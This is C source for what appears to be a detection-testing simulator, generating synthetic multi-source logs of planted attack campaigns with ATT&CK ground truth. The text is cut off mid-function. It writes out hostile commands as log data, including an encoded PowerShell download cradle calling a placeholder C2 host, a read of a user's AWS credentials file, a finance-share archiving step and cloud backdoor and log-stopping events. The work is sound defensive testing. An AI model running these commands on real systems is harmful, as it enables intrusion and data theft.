/*
 * campaign.c: the planted attacks and their ground truth.
 *
 * Four kinds of campaign, each a chain of ATT&CK steps whose events cross
 * sources and share entities, so that only correlation sees the whole:
 *
 *   phish-to-cloud   a phishing attachment, the stolen password used from
 *                    a new country, PowerShell and a beacon, credentials
 *                    harvested, discovery, lateral movement to the file
 *                    server, staging, the person's AWS key used from the
 *                    attacker's address, exfiltration to storage abroad
 *   leaked-ci-key    a poisoned package on the build server sends the CI
 *                    pipeline's AWS key out; the key used from outside:
 *                    discovery, a backdoor IAM user, logging stopped,
 *                    the finance bucket read, a snapshot shared, miners
 *   password-spray   Okta and Entra failures across many people from one
 *                    address, one success, an MFA factor enrolled by the
 *                    attacker, the mailbox and files read
 *   ssh-bruteforce   password guessing at the bastion that succeeds, sudo,
 *                    an SSH key planted, SSH to the finance database, a
 *                    dump, and curl carrying it out
 *
 * Each is loud (minutes between steps, signature alerts, known
 * infrastructure) or quiet (hours between steps, living off the land,
 * nothing in the intel feed).  Some start while another runs.
 *
 * The whole plan is made at the start from its own random stream (the
 * events are few); main.c's clock takes each event in its minute.  Every
 * event carries its campaign, step, tactic and technique, and the entities
 * soc-ingest must find in it (user, host, address, access key), written
 * to the ground truth with the line the event got in the output.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "clock.h"
#include "sim.h"

enum tmpl { T_PHISH, T_CIKEY, T_SPRAY, T_SSH, T_N };
static const char *const tmpl_names[T_N] = {
	"phish-to-cloud", "leaked-ci-key", "password-spray", "ssh-bruteforce",
};

struct step {
	char name[96];
	const char *tactic, *technique;
	int events;
};

struct camp {
	int id;
	enum tmpl tmpl;
	int loud;
	int64_t start, t, first, last;
	int victim;		/* user index */
	const struct sim_host *host;	/* the first host taken */
	int actry;		/* the attacker's country */
	char aip[16], c2ip[16], xip[16], pip[16];
	char c2d[64], pd[64], xd[64];
	char key[21], backdoor_key[21];
	char bucket[64];
	struct sim_user backdoor;	/* leaked-ci-key's IAM user */
	struct step steps[12];
	int nsteps;
	int intel_known;
};

struct cev {
	int64_t ms;
	uint32_t seq;
	int camp, step;
	enum sim_src src;
	char *line;
	size_t len;
	const char *user, *host, *ip, *key;	/* entities to find */
};

struct sim_campaigns {
	const struct sim_org *o;
	struct sim_rng r;
	struct camp *c;
	int n;
	struct cev *ev;
	size_t nev, cap, next;
	struct soc_buf b;
	int64_t scale;		/* the longest gap between quiet steps */
};

/* --- recording ---------------------------------------------------------- */

static void
step(struct sim_campaigns *cs, struct camp *c, const char *tactic,
    const char *technique, const char *what)
{
	struct step *s = &c->steps[c->nsteps++];

	SOC_ASSERT(c->nsteps <= 12);
	snprintf(s->name, sizeof s->name, "C%d.%d %s: %s", c->id, c->nsteps,
	    tactic, what);
	s->tactic = tactic;
	s->technique = technique;
	(void)cs;
}

/* The event in cs->b, at ms, for the current step. */
static void
ev(struct sim_campaigns *cs, struct camp *c, int64_t ms, enum sim_src src,
    const char *user, const char *host, const char *ip, const char *key)
{
	struct cev *e;

	if (ms >= cs->o->end)
		ms = cs->o->end - 1;
	if (cs->nev == cs->cap) {
		cs->cap = cs->cap ? cs->cap * 2 : 256;
		cs->ev = soc_xrealloc(cs->ev, cs->cap * sizeof(*cs->ev));
	}
	e = &cs->ev[cs->nev];
	e->ms = ms;
	e->seq = (uint32_t)cs->nev++;
	e->camp = c->id - 1;
	e->step = c->nsteps - 1;
	e->src = src;
	e->line = soc_buf_detach(&cs->b, &e->len);
	e->user = user;
	e->host = host;
	e->ip = ip;
	e->key = key;
	c->steps[c->nsteps - 1].events++;
	if (!c->first || ms < c->first)
		c->first = ms;
	if (ms > c->last)
		c->last = ms;
}

/* Time passes between steps: minutes when loud, hours when quiet. */
static void
gap(struct sim_campaigns *cs, struct camp *c)
{
	if (c->loud)
		c->t += 1000 * sim_rng_range(&cs->r, 60, 900);
	else
		c->t += sim_rng_range(&cs->r, cs->scale / 4, cs->scale);
}

/* Seconds pass within a step. */
static int64_t
soon(struct sim_campaigns *cs, struct camp *c, int lo, int hi)
{
	c->t += 1000 * sim_rng_range(&cs->r, lo, hi) + (int64_t)sim_rng_below(&cs->r, 1000);
	return c->t;
}

/* PowerShell's -EncodedCommand: base64 of UTF-16LE. */
static void
ps_encode(const char *s, char *out, size_t outsz)
{
	static const char b64[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned char in[512];
	size_t n = 0, i, o = 0;

	for (; *s && n + 2 <= sizeof in; s++) {
		in[n++] = (unsigned char)*s;
		in[n++] = 0;
	}
	for (i = 0; i < n && o + 5 < outsz; i += 3) {
		unsigned v = (unsigned)in[i] << 16 |
		    (i + 1 < n ? (unsigned)in[i + 1] << 8 : 0) |
		    (i + 2 < n ? in[i + 2] : 0);

		out[o++] = b64[v >> 18 & 63];
		out[o++] = b64[v >> 12 & 63];
		out[o++] = i + 1 < n ? b64[v >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? b64[v & 63] : '=';
	}
	out[o] = '\0';
}

static const char *const ua_browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
static const char *const ua_attacker = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
    "Gecko/20100101 Firefox/115.0";

static void
okta(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_user *u, const char *type, const char *display,
    const char *result, const char *reason, int threat)
{
	struct sim_okta e = { 0 };

	e.user = u;
	e.ip = c->aip;
	e.country = c->actry;
	e.ua = ua_attacker;
	e.event_type = type;
	e.display = display;
	e.result = result;
	e.reason = reason;
	e.threat = threat;
	e.severity = result && strcmp(result, "FAILURE") == 0 ? "WARN" : "INFO";
	sim_emit_okta(&cs->b, &cs->r, ms, &e);
	ev(cs, c, ms, SRC_OKTA, u->name, NULL, c->aip, NULL);
}

static void
entra(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_user *u, const char *app, int error, const char *risk)
{
	struct sim_entra e = { 0 };

	e.user = u;
	e.app = app;
	e.ip = c->aip;
	e.country = c->actry;
	e.ua = ua_attacker;
	e.error = error;
	e.failure = error == 50126 ? "Error validating credentials due to "
	    "invalid username or password." : "Strong Authentication is required.";
	e.risk = risk;
	e.risk_state = risk && strcmp(risk, "none") ? "atRisk" : "none";
	sim_emit_entra(&cs->b, &cs->r, ms, &e);
	ev(cs, c, ms, SRC_ENTRA, u->name, NULL, c->aip, NULL);
}

static void
trail(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_user *u, const char *key, const char *source,
    const char *name, const char *params, const char *region,
    const char *err)
{
	struct sim_trail e = { 0 };

	e.source = source;
	e.name = name;
	e.params = params;
	e.region = region;
	e.account = cs->o->account_prod;
	e.user = u;
	e.key = key;
	e.ip = c->aip;
	e.ua = "aws-cli/2.13.5 Python/3.11.4 Linux/5.15.0-1040-aws exe/x86_64.ubuntu.22";
	e.read_only = strncmp(name, "Describe", 8) == 0 ||
	    strncmp(name, "List", 4) == 0 || strncmp(name, "Get", 3) == 0;
	if (err) {
		e.error_code = err;
		e.error_msg = "Access Denied";
	}
	sim_emit_cloudtrail(&cs->b, &cs->r, ms, &e);
	ev(cs, c, ms, SRC_CLOUDTRAIL, u ? u->name : NULL, NULL, c->aip,
	    key && *key ? key : NULL);
}

static void
proc(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_host *h, const char *user, const char *image,
    const char *cmd, const char *pimage, const char *pcmd, const char *rule)
{
	sim_ev_proc(&cs->b, &cs->r, ms, h, user, image, cmd, pimage, pcmd, rule);
	ev(cs, c, ms, SRC_SYSMON, user, h->fqdn, NULL, NULL);
}

static void
suricata(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    struct sim_suricata *e)
{
	if (!e->sport)
		e->sport = 49152 + (int)sim_rng_below(&cs->r, 16000);
	sim_emit_suricata(&cs->b, &cs->r, ms, e);
	ev(cs, c, ms, SRC_SURICATA, NULL, NULL, e->src, NULL);
}

static void
proxy(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_user *u, const struct sim_host *from, const char *host,
    const char *dst, const char *url, const char *method, long long out,
    const char *cat)
{
	struct sim_proxy p = { 0 };

	p.user = u;
	p.src = from->ip;
	p.dst = dst;
	p.host = host;
	p.url = url;
	p.method = method;
	p.ua = ua_browser;
	p.result = strcmp(method, "CONNECT") == 0 ? "TCP_TUNNEL" : "TCP_MISS";
	p.status = 200;
	p.category = cat;
	p.bytes_out = out;
	p.bytes_in = 1000 + (long long)sim_rng_below(&cs->r, 300000);
	sim_emit_proxy(&cs->b, ms, &cs->o->hosts[cs->o->proxy], &p);
	ev(cs, c, ms, SRC_PROXY, u->name, NULL, from->ip, NULL);
}

static void
wazuh(struct sim_campaigns *cs, struct camp *c, int64_t ms,
    const struct sim_host *h, const char *id, int level, const char *desc,
    const char *groups, const char *mid, const char *mtac, const char *full,
    const char *srcip, const char *user, const char *file)
{
	struct sim_wazuh w = { 0 };

	w.agent = h;
	w.rule_id = id;
	w.level = level;
	w.description = desc;
	w.groups = groups;
	w.mitre_id = mid;
	w.mitre_tactic = mtac;
	w.full_log = full;
	w.decoder = file ? "syscheck_integrity_changed" : "sshd";
	w.location = file ? "syscheck" : "/var/log/auth.log";
	w.srcip = srcip;
	w.dstuser = user;
	w.file = file;
	sim_emit_wazuh(&cs->b, &cs->r, ms, &w);
	ev(cs, c, ms, SRC_WAZUH, user, h->fqdn, srcip, NULL);
}

/* An ssh login: sshd's line, then Wazuh's alert on it. */
static void
ssh_in(struct sim_campaigns *cs, struct camp *c, const struct sim_host *h,
    const char *user, const char *from, const char *method)
{
	sim_ev_sshd(&cs->b, &cs->r, c->t, h, 1, method, user, 0, from);
	ev(cs, c, c->t, SRC_SYSLOG, user, h->fqdn, from, NULL);
	sim_ev_wazuh_login(&cs->b, &cs->r, soon(cs, c, 0, 1), h, user, from,
	    method);
	ev(cs, c, c->t, SRC_WAZUH, user, h->fqdn, from, NULL);
}

/* A DNS query the network sensor sees, from src to the first DNS server. */
static void
lookup(struct sim_campaigns *cs, struct camp *c, const char *src,
    const char *name)
{
	struct sim_suricata e = { 0 };

	e.type = "dns";
	e.src = src;
	e.dst = cs->o->hosts[cs->o->dns].ip;
	e.dport = 53;
	e.proto = "UDP";
	e.rrname = name;
	e.app = "dns";
	suricata(cs, c, c->t, &e);
}

/* An HTTP POST the network sensor sees; with curl_alert, it trips the
 * curl rule too. */
static void
upload(struct sim_campaigns *cs, struct camp *c, const char *src,
    const char *dst, int port, const char *host, const char *url,
    const char *ua, long long bytes, int curl_alert)
{
	struct sim_suricata e = { 0 };

	e.type = "http";
	if (curl_alert)
		sim_rule(&e, RULE_CURL_UA);
	e.src = src;
	e.dst = dst;
	e.dport = port;
	e.proto = "TCP";
	e.hostname = host;
	e.url = url;
	e.ua = ua;
	e.method = "POST";
	e.status = curl_alert ? 200 : 204;
	e.bytes_out = bytes;
	e.bytes_in = 300;
	e.app = "http";
	suricata(cs, c, c->t, &e);
}

/* --- the campaigns ------------------------------------------------------- */

#define WINWORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define OUTLOOK "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
#define POWERSHELL "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"

static void
phish(struct sim_campaigns *cs, struct camp *c)
{
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_user *u = &o->users[c->victim];
	const struct sim_host *ws = &o->hosts[u->host], *fs = &o->hosts[o->fs];
	const struct sim_user *admin = u;
	char path[256], cmd[900], enc[800], url[200], params[256];
	int i, k;

	for (i = 0; i < (int)o->npeople; i++)
		if (o->users[i].privileged && i != c->victim) {
			admin = &o->users[i];
			break;
		}

	/* 1: the mail, the page that asked for the password, the document */
	step(cs, c, "initial-access", "T1566.001", "phishing attachment opened");
	lookup(cs, c, ws->ip, c->pd);
	snprintf(url, sizeof url, "https://%s/auth/o365/login.php?u=%s", c->pd,
	    u->name);
	proxy(cs, c, soon(cs, c, 1, 3), u, ws, c->pd, c->pip, url, "GET", 900,
	    "Newly Registered Websites");
	snprintf(url, sizeof url, "https://%s/invoice/INV-%u.docm", c->pd,
	    4000 + (unsigned)sim_rng_below(r, 5000));
	proxy(cs, c, soon(cs, c, 20, 90), u, ws, c->pd, c->pip, url, "GET", 700,
	    "Newly Registered Websites");
	snprintf(path, sizeof path, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\"
	    "INetCache\\Content.Outlook\\Q7X2LM4D\\%s", u->name, strrchr(url, '/') + 1);
	sim_ev_file(&cs->b, r, soon(cs, c, 2, 10), ws, u->name, OUTLOOK, path);
	ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	snprintf(cmd, sizeof cmd, "\"%s\" /n \"%s\" /o \"\"", WINWORD, path);
	proc(cs, c, soon(cs, c, 3, 20), ws, u->name, WINWORD, cmd, OUTLOOK,
	    "\"" OUTLOOK "\"", NULL);
	gap(cs, c);

	/* 2: the password, from another country */
	step(cs, c, "initial-access", "T1078.004",
	    "stolen password used from a new country");
	if (c->loud)
		for (i = 0; i < 4; i++)
			okta(cs, c, soon(cs, c, 10, 40), u, "system.push.send_factor_verify_push",
			    "Push notification sent for verification", "SUCCESS", NULL, 0);
	okta(cs, c, soon(cs, c, 5, 30), u, "user.session.start",
	    "User login to Okta", "SUCCESS", NULL, c->loud);
	entra(cs, c, soon(cs, c, 30, 120), u, "Office 365 Exchange Online", 0,
	    c->loud ? "high" : "medium");
	if (c->loud)
		entra(cs, c, soon(cs, c, 30, 120), u, "Office 365 SharePoint Online",
		    0, "medium");
	gap(cs, c);

	/* 3: the macro's PowerShell */
	step(cs, c, "execution", "T1059.001", "document macro starts encoded PowerShell");
	snprintf(cmd, sizeof cmd, "IEX (New-Object Net.WebClient).DownloadString("
	    "'https://%s/jquery-3.3.1.min.js')", c->c2d);
	ps_encode(cmd, enc, sizeof enc);
	snprintf(cmd, sizeof cmd, "powershell.exe -nop -w hidden -enc %s", enc);
	proc(cs, c, c->t, ws, u->name, POWERSHELL, cmd, WINWORD, "\"" WINWORD "\" /n",
	    "technique_id=T1059.001,technique_name=PowerShell");
	sim_ev_dns(&cs->b, r, soon(cs, c, 1, 3), ws, u->name, POWERSHELL, c->c2d, c->c2ip);
	ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	gap(cs, c);

	/* 4: the beacon */
	step(cs, c, "command-and-control", "T1071.001", "HTTPS beacon to the C2 server");
	k = c->loud ? 6 : 3;
	for (i = 0; i < k; i++) {
		struct sim_suricata e = { 0 };

		sim_ev_net(&cs->b, r, c->t, ws, u->name, POWERSHELL, c->c2ip, 443, c->c2d);
		ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, ws->ip, NULL);
		e.type = "tls";
		if (c->loud)
			sim_rule(&e, RULE_COBALT_STRIKE);
		e.src = ws->ip;
		e.dst = c->c2ip;
		e.dport = 443;
		e.proto = "TCP";
		e.sni = c->c2d;
		e.app = "tls";
		suricata(cs, c, soon(cs, c, 0, 2), &e);
		if (i == 0)
			proxy(cs, c, soon(cs, c, 0, 2), u, ws, c->c2d, c->c2ip,
			    c->c2d, "CONNECT", 3000, "Uncategorized");
		if (c->loud)
			soon(cs, c, 55, 65);
		else
			c->t += sim_rng_range(r, cs->scale / 20, cs->scale / 6);
	}
	gap(cs, c);

	/* 5: credentials */
	step(cs, c, "credential-access", c->loud ? "T1003.001" : "T1552.001",
	    c->loud ? "LSASS memory read" : "AWS credentials file read");
	if (c->loud) {
		sim_ev_lsass(&cs->b, r, c->t, ws, u->name,
		    "C:\\Windows\\System32\\rundll32.exe");
		ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	}
	snprintf(cmd, sizeof cmd, "cmd.exe /c type C:\\Users\\%s\\.aws\\credentials",
	    u->name);
	proc(cs, c, soon(cs, c, 5, 60), ws, u->name, CMD, cmd, POWERSHELL,
	    "powershell.exe -nop -w hidden", NULL);
	gap(cs, c);

	/* 6: where to go */
	step(cs, c, "discovery", "T1087.002", "domain admins and controllers listed");
	proc(cs, c, c->t, ws, u->name, "C:\\Windows\\System32\\net.exe",
	    "net.exe group \"Domain Admins\" /domain", CMD, "cmd.exe",
	    "technique_id=T1087.002,technique_name=Domain Account");
	proc(cs, c, soon(cs, c, 5, 40), ws, u->name, "C:\\Windows\\System32\\nltest.exe",
	    "nltest.exe /dclist:corp.example", CMD, "cmd.exe", NULL);
	if (c->loud)
		proc(cs, c, soon(cs, c, 5, 40), ws, u->name, "C:\\Users\\Public\\AdFind.exe",
		    "AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem",
		    CMD, "cmd.exe", "technique_id=T1018,technique_name=Remote System Discovery");
	gap(cs, c);

	/* 7: to the file server */
	step(cs, c, "lateral-movement", c->loud ? "T1021.002" : "T1021.001",
	    c->loud ? "PsExec to the file server with an admin's password" :
	    "RDP to the file server");
	{
		const struct sim_user *as = c->loud ? admin : u;

		sim_ev_logon(&cs->b, r, c->t, fs, as->name, ws->ip, c->loud ? 3 : 10, 0);
		ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn, ws->ip, NULL);
		if (c->loud) {
			struct sim_suricata e = { 0 };

			sim_ev_special(&cs->b, soon(cs, c, 0, 1), fs, as->name);
			ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn, NULL, NULL);
			sim_rule(&e, RULE_SMB_EXE);
			e.src = ws->ip;
			e.dst = fs->ip;
			e.dport = 445;
			e.proto = "TCP";
			e.app = "smb";
			suricata(cs, c, soon(cs, c, 1, 2), &e);
			sim_ev_service(&cs->b, soon(cs, c, 1, 3), fs, as->name, "PSEXESVC",
			    "%SystemRoot%\\PSEXESVC.exe");
			ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn, NULL, NULL);
			proc(cs, c, soon(cs, c, 1, 3), fs, NULL, "C:\\Windows\\PSEXESVC.exe",
			    "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\System32\\services.exe",
			    "C:\\Windows\\system32\\services.exe", NULL);
		}
	}
	gap(cs, c);

	/* 8: the finance share, packed */
	step(cs, c, "collection", "T1560.001", "finance share archived for theft");
	snprintf(cmd, sizeof cmd, "7z.exe a -mx9 -pinfected C:\\ProgramData\\upd.7z "
	    "\\\\fs-01.corp.example\\Finance\\*");
	proc(cs, c, c->t, ws, u->name, "C:\\Program Files\\7-Zip\\7z.exe", cmd, CMD,
	    "cmd.exe", NULL);
	sim_ev_file(&cs->b, r, soon(cs, c, 60, 400), ws, u->name,
	    "C:\\Program Files\\7-Zip\\7z.exe", "C:\\ProgramData\\upd.7z");
	ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	gap(cs, c);

	/* 9: the person's AWS key, from outside */
	step(cs, c, "discovery", "T1580", "the person's AWS key used from the "
	    "attacker's address");
	trail(cs, c, c->t, u, c->key, "sts.amazonaws.com", "GetCallerIdentity",
	    NULL, NULL, NULL);
	trail(cs, c, soon(cs, c, 5, 30), u, c->key, "s3.amazonaws.com", "ListBuckets",
	    NULL, NULL, NULL);
	trail(cs, c, soon(cs, c, 5, 30), u, c->key, "iam.amazonaws.com", "ListUsers",
	    NULL, NULL, "AccessDenied");
	if (c->loud) {
		step(cs, c, "persistence", "T1098.001", "a second access key created");
		snprintf(params, sizeof params, "{\"userName\":\"%s\"}", u->name);
		trail(cs, c, soon(cs, c, 30, 120), u, c->key, "iam.amazonaws.com",
		    "CreateAccessKey", params, NULL, NULL);
	}
	gap(cs, c);

	/* 10: out */
	step(cs, c, "exfiltration", "T1567.002", "finance data sent to cloud storage");
	for (i = 0; i < (c->loud ? 3 : 1); i++) {
		snprintf(url, sizeof url, "https://%s/api/v2/upload/%u", c->xd,
		    (unsigned)sim_rng_below(r, 100000));
		proxy(cs, c, soon(cs, c, 5, 60), u, ws, c->xd, c->xip, url, "POST",
		    40000000 + (long long)sim_rng_below(r, 200000000), "File Sharing");
	}
	for (i = 0; i < (c->loud ? 8 : 3); i++) {
		snprintf(params, sizeof params, "{\"bucketName\":\"%s\",\"key\":"
		    "\"reports/2026/q%d-ledger-%02d.xlsx\"}", c->bucket, 1 + i % 4, i);
		trail(cs, c, soon(cs, c, 1, 20), u, c->key, "s3.amazonaws.com",
		    "GetObject", params, NULL, NULL);
	}
}

static void
cikey(struct sim_campaigns *cs, struct camp *c)
{
	static const char *const regions[] = { "us-east-1", "us-west-2",
	    "eu-west-1", "ap-southeast-1", "eu-central-1", "sa-east-1" };
	const struct sim_org *o = cs->o;
	const struct sim_user *svc = &o->users[o->svc_deploy];
	struct sim_user *bd = &c->backdoor;
	char params[300];
	int i;

	/* The events keep pointers to its name and key: it lives in c. */
	snprintf(bd->name, sizeof bd->name, "support-sync");
	memcpy(bd->key, c->backdoor_key, sizeof bd->key);

	step(cs, c, "initial-access", "T1195.002", "a poisoned package on the "
	    "build server sends its secrets out");
	{
		const struct sim_host *b = &o->hosts[o->build];
		char url[128];

		lookup(cs, c, b->ip, c->c2d);
		snprintf(url, sizeof url, "/v1/collect?id=%u",
		    (unsigned)sim_rng_below(&cs->r, 1000000));
		soon(cs, c, 0, 2);
		upload(cs, c, b->ip, c->c2ip, 80, c->c2d, url,
		    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
		    6000 + (long long)sim_rng_below(&cs->r, 4000), 0);
	}
	gap(cs, c);

	step(cs, c, "discovery", "T1580", "the CI key tried from outside");
	trail(cs, c, c->t, svc, c->key, "sts.amazonaws.com", "GetCallerIdentity",
	    NULL, NULL, NULL);
	for (i = 0; i < (c->loud ? 6 : 2); i++)
		trail(cs, c, soon(cs, c, 1, c->loud ? 5 : 120), svc, c->key,
		    "ec2.amazonaws.com", "DescribeInstances", NULL, regions[i], NULL);
	trail(cs, c, soon(cs, c, 2, 30), svc, c->key, "s3.amazonaws.com",
	    "ListBuckets", NULL, NULL, NULL);
	trail(cs, c, soon(cs, c, 2, 30), svc, c->key, "iam.amazonaws.com",
	    "GetAccountAuthorizationDetails", NULL, NULL, NULL);
	gap(cs, c);

	step(cs, c, "persistence", "T1136.003", "a backdoor IAM user with a key");
	trail(cs, c, c->t, svc, c->key, "iam.amazonaws.com", "CreateUser",
	    "{\"userName\":\"support-sync\"}", NULL, NULL);
	trail(cs, c, soon(cs, c, 2, 20), svc, c->key, "iam.amazonaws.com",
	    "CreateAccessKey", "{\"userName\":\"support-sync\"}", NULL, NULL);
	trail(cs, c, soon(cs, c, 2, 20), svc, c->key, "iam.amazonaws.com",
	    "AttachUserPolicy", "{\"userName\":\"support-sync\",\"policyArn\":"
	    "\"arn:aws:iam::aws:policy/AdministratorAccess\"}", NULL, NULL);
	gap(cs, c);

	if (c->loud) {
		step(cs, c, "defense-evasion", "T1562.008", "CloudTrail logging stopped");
		snprintf(params, sizeof params, "{\"name\":\"arn:aws:cloudtrail:"
		    "eu-central-1:%s:trail/org-trail\"}", o->account_prod);
		trail(cs, c, c->t, bd, bd->key, "cloudtrail.amazonaws.com",
		    "StopLogging", params, NULL, NULL);
		gap(cs, c);
	}

	step(cs, c, "collection", "T1530", "the finance bucket read");
	for (i = 0; i < (c->loud ? 12 : 4); i++) {
		snprintf(params, sizeof params, "{\"bucketName\":\"%s\",\"key\":"
		    "\"exports/customers-%02d.csv.gz\"}", c->bucket, i);
		trail(cs, c, soon(cs, c, 1, c->loud ? 4 : 300), bd,
		    bd->key, "s3.amazonaws.com", "GetObject", params, NULL, NULL);
	}
	gap(cs, c);

	step(cs, c, "exfiltration", "T1537", "a database snapshot shared with "
	    "an outside account");
	trail(cs, c, c->t, bd, bd->key, "rds.amazonaws.com",
	    "CreateDBSnapshot", "{\"dBSnapshotIdentifier\":\"finance-tmp\","
	    "\"dBInstanceIdentifier\":\"finance-prod\"}", NULL, NULL);
	trail(cs, c, soon(cs, c, 60, 600), bd, bd->key,
	    "rds.amazonaws.com", "ModifyDBSnapshotAttribute",
	    "{\"dBSnapshotIdentifier\":\"finance-tmp\",\"attributeName\":"
	    "\"restore\",\"valuesToAdd\":[\"210987654321\"]}", NULL, NULL);

	if (c->loud) {
		gap(cs, c);
		step(cs, c, "impact", "T1496", "GPU instances started for mining");
		for (i = 0; i < 3; i++)
			trail(cs, c, soon(cs, c, 1, 10), bd, bd->key,
			    "ec2.amazonaws.com", "RunInstances",
			    "{\"instanceType\":\"p3.16xlarge\",\"minCount\":4,\"maxCount\":4}",
			    regions[3 + i], NULL);
	}
}

static void
spray(struct sim_campaigns *cs, struct camp *c)
{
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_user *u = &o->users[c->victim];
	int i, k = c->loud ? 40 : 15;

	step(cs, c, "credential-access", "T1110.003", "password spray across the company");
	for (i = 0; i < k; i++) {
		const struct sim_user *t = &o->users[sim_rng_below(r, o->npeople)];

		if (t == u)
			continue;
		if (i % 3 == 2)
			entra(cs, c, c->t, t, "Office 365 Exchange Online", 50126, "none");
		else
			okta(cs, c, c->t, t, "user.session.start", "User login to Okta",
			    "FAILURE", "INVALID_CREDENTIALS", 0);
		if (c->loud)
			soon(cs, c, 1, 6);
		else
			c->t += sim_rng_range(r, cs->scale / 40, cs->scale / 10);
	}
	okta(cs, c, c->t, u, "user.session.start", "User login to Okta", "FAILURE",
	    "INVALID_CREDENTIALS", 0);
	gap(cs, c);

	step(cs, c, "initial-access", "T1078.004", "a sprayed password works");
	okta(cs, c, c->t, u, "user.session.start", "User login to Okta", "SUCCESS",
	    NULL, c->loud);
	entra(cs, c, soon(cs, c, 20, 90), u, "OfficeHome", 0, c->loud ? "medium" : "low");
	gap(cs, c);

	step(cs, c, "persistence", "T1098.005", "the attacker's MFA factor enrolled");
	okta(cs, c, c->t, u, "user.mfa.factor.activate", "User set up MFA factor",
	    "SUCCESS", NULL, 0);
	gap(cs, c);

	step(cs, c, "collection", "T1114.002", "mailbox and files read");
	for (i = 0; i < (c->loud ? 6 : 3); i++) {
		entra(cs, c, c->t, u, i % 2 ? "Office 365 SharePoint Online" :
		    "Office 365 Exchange Online", 0, "none");
		okta(cs, c, soon(cs, c, 5, 30), u, "user.authentication.sso",
		    "User single sign on to app", "SUCCESS", NULL, 0);
		if (c->loud)
			soon(cs, c, 60, 300);
		else
			c->t += sim_rng_range(r, cs->scale / 10, cs->scale / 3);
	}
}

static void
ssh(struct sim_campaigns *cs, struct camp *c)
{
	static const char *const guesses[] = { "root", "admin", "ubuntu",
	    "deploy", "oracle" };
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_user *u = &o->users[c->victim];
	const struct sim_host *bh = &o->hosts[o->bastion], *db = &o->hosts[o->db];
	char full[300], cmd[200];
	int i, k = c->loud ? 60 : 20;

	step(cs, c, "credential-access", "T1110.001", "SSH password guessing at the bastion");
	for (i = 0; i < k; i++) {
		const char *who = i % 4 == 3 ? u->name : guesses[i % 5];
		int invalid = strcmp(who, "root") && strcmp(who, u->name);

		sim_ev_sshd(&cs->b, r, c->t, bh, 0, "password", who, invalid, c->aip);
		ev(cs, c, c->t, SRC_SYSLOG, NULL, bh->fqdn, c->aip, NULL);
		if (i % 5 == 0) {
			sim_ev_wazuh_fail(&cs->b, r, c->t + 1, bh, who, invalid, c->aip);
			ev(cs, c, c->t + 1, SRC_WAZUH, NULL, bh->fqdn, c->aip, NULL);
		}
		if (c->loud)
			soon(cs, c, 1, 4);
		else
			c->t += sim_rng_range(r, cs->scale / 60, cs->scale / 15);
	}
	if (c->loud) {
		struct sim_suricata e = { 0 };

		snprintf(full, sizeof full, "sshd[2999]: Failed password for %s from %s "
		    "port 41234 ssh2", u->name, c->aip);
		wazuh(cs, c, c->t, bh, "5720", 10, "sshd: Multiple authentication failures.",
		    "\"syslog\",\"sshd\",\"authentication_failures\"", "T1110",
		    "Credential Access", full, c->aip, NULL, NULL);
		sim_rule(&e, RULE_SSH_SCAN);
		e.src = c->aip;
		e.dst = bh->ip;
		suricata(cs, c, soon(cs, c, 0, 2), &e);
	}
	gap(cs, c);

	step(cs, c, "initial-access", "T1078", "a guessed password logs in at the bastion");
	ssh_in(cs, c, bh, u->name, c->aip, "password");
	soon(cs, c, 30, 200);

	step(cs, c, "privilege-escalation", "T1548.003", "sudo to a root shell");
	/* soc-ingest reads no user from a sudo line (the Wazuh alert has it). */
	sim_ev_sudo(&cs->b, r, c->t, bh, u->name, "/bin/bash");
	ev(cs, c, c->t, SRC_SYSLOG, NULL, bh->fqdn, NULL, NULL);
	sim_ev_wazuh_sudo(&cs->b, r, soon(cs, c, 0, 1), bh, u->name, "/bin/bash");
	ev(cs, c, c->t, SRC_WAZUH, u->name, bh->fqdn, NULL, NULL);
	soon(cs, c, 20, 120);

	step(cs, c, "persistence", "T1098.004", "an SSH key added for root");
	wazuh(cs, c, c->t, bh, "550", 7, "Integrity checksum changed.",
	    "\"ossec\",\"syscheck\",\"syscheck_entry_modified\",\"syscheck_file\"",
	    "T1098.004", "Persistence", NULL, NULL, NULL, "/root/.ssh/authorized_keys");
	gap(cs, c);

	step(cs, c, "lateral-movement", "T1021.004", "SSH from the bastion to the "
	    "finance database");
	ssh_in(cs, c, db, u->name, bh->ip, "publickey");
	soon(cs, c, 60, 600);

	step(cs, c, "collection", "T1005", "the finance database dumped");
	snprintf(cmd, sizeof cmd, "/usr/bin/pg_dump -Fc finance -f /tmp/.%s.dump",
	    u->name);
